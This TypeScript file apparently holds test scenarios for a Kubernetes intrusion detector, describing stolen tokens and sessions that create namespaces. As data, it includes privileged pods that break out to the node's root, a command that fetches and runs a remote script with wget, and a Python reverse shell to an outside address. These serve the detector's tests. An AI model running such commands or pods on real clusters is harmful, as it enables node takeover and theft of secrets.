/** Intruders of whom little is left, or whom somebody else has noticed. */
import { acts, times } from './acts.ts';
import { FACTS, grave, PEOPLE, thief } from './people.ts';
import type { Person, Situation } from './situation.ts';
import { admin, alice, byAlice, byDana, hostRoot, lately, pipeline } from './thieves.ts';
import { app, container, OWN, pod, rule, runs, space } from './things.ts';

const controller: Person = {
  who: {
    account: 'backend/worker',
    rights: [rule('', 'namespaces', 'get,list,create'), rule(',apps', 'pods,deployments,secrets', '*')],
  },
  address: '10.0.6.18',
  userAgent: 'Go-http-client/2.0',
};
const stolenToken = acts(thief(controller, 'curl/8.14.1', '198.51.100.80'));

export const LATE: readonly Situation[] = [
  {
    name: 'gone-before-anybody-looked',
    kind: 'hostile',
    story:
      'With the token of the pipeline, an intruder makes a namespace, starts a pod that opens the root of its node, and deletes the namespace before the alert is investigated.',
    expect: { ...grave(FACTS.pipeline, 'HIGH'), told: ['first'] },
    before: [lately(PEOPLE.pipeline)],
    creation: [
      pipeline.create(space('tmp-41c0')),
      pipeline.create(
        pod('tmp-41c0', 'x', {
          hostPID: true,
          volumes: [hostRoot],
          containers: [
            container('docker.io/library/alpine:3.22', ['nsenter', '--target', '1', '--mount', 'sh'], {
              securityContext: { privileged: true },
              volumeMounts: [{ name: 'host', mountPath: '/host' }],
            }),
          ],
        }),
      ),
      pipeline.remove('/api/v1/namespaces/tmp-41c0'),
    ],
  },
  {
    name: 'attack-sequence-of-guardduty',
    ...byAlice,
    expect: grave(FACTS.alice, 'CRITICAL'),
    story:
      'A stolen developer session makes a namespace and starts what looks like an ordinary service. GuardDuty has put the events before it together to an attack sequence.',
    threats: [
      {
        id: '5ec7a1b2',
        type: 'AttackSequence:EKS/CompromisedCluster',
        severity: 9.5,
        title: 'A cluster may be compromised.',
        namespaces: ['price-cache'],
        principals: ['Dev'],
        sequence: true,
      },
    ],
    creation: [alice.create(space('price-cache')), alice.create(app('price-cache', 'cache'))],
  },
  {
    name: 'account-token-from-outside',
    kind: 'hostile',
    story:
      'The token of an application that makes namespaces is used from a public address: it reads Secrets, makes a namespace, and runs a script from the internet.',
    expect: grave(
      {
        actor: 'system:serviceaccount:backend:worker',
        right: 'backend-worker',
        binding: 'ClusterRoleBinding backend-worker',
      },
      'MEDIUM',
    ),
    before: [times(3, lately(controller)), times(2, stolenToken.get('/api/v1/secrets'))],
    creation: [stolenToken.create(space('worker-tmp'))],
    after: [
      stolenToken.create(
        pod(
          'worker-tmp',
          'job',
          runs('docker.io/library/alpine:3.22', ['sh', '-c', 'wget -qO- http://198.51.100.50/j | sh']),
        ),
      ),
    ],
  },
  {
    name: 'agents-in-two-places',
    ...byDana,
    story:
      'A stolen administrator makes a namespace with an innocent service, and a privileged pod with the root of its node among the pods of the system.',
    creation: [admin.create(space('status-page'))],
    after: [
      admin.create(app('status-page', 'status')),
      admin.create(
        pod('kube-system', 'kube-proxy-7xk2p', {
          hostPID: true,
          hostNetwork: true,
          volumes: [hostRoot],
          containers: [
            container('docker.io/library/busybox:1.37', ['chroot', '/host', 'sh', '-c', 'sleep infinity'], {
              securityContext: { privileged: true },
              volumeMounts: [{ name: 'host', mountPath: '/host' }],
            }),
          ],
        }),
      ),
    ],
  },
  {
    name: 'shell-by-python',
    ...byAlice,
    story:
      'A stolen developer session starts a pod of an ordinary image, whose command connects a shell to a server outside with a few lines of Python.',
    creation: [alice.create(space('feature-tests'))],
    after: [
      alice.create(
        pod(
          'feature-tests',
          'test',
          runs(`${OWN}/python:3.14`, [
            'python3',
            '-c',
            'import socket,subprocess,os;s=socket.socket();s.connect(("198.51.100.9",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])',
          ]),
        ),
      ),
    ],
  },
];
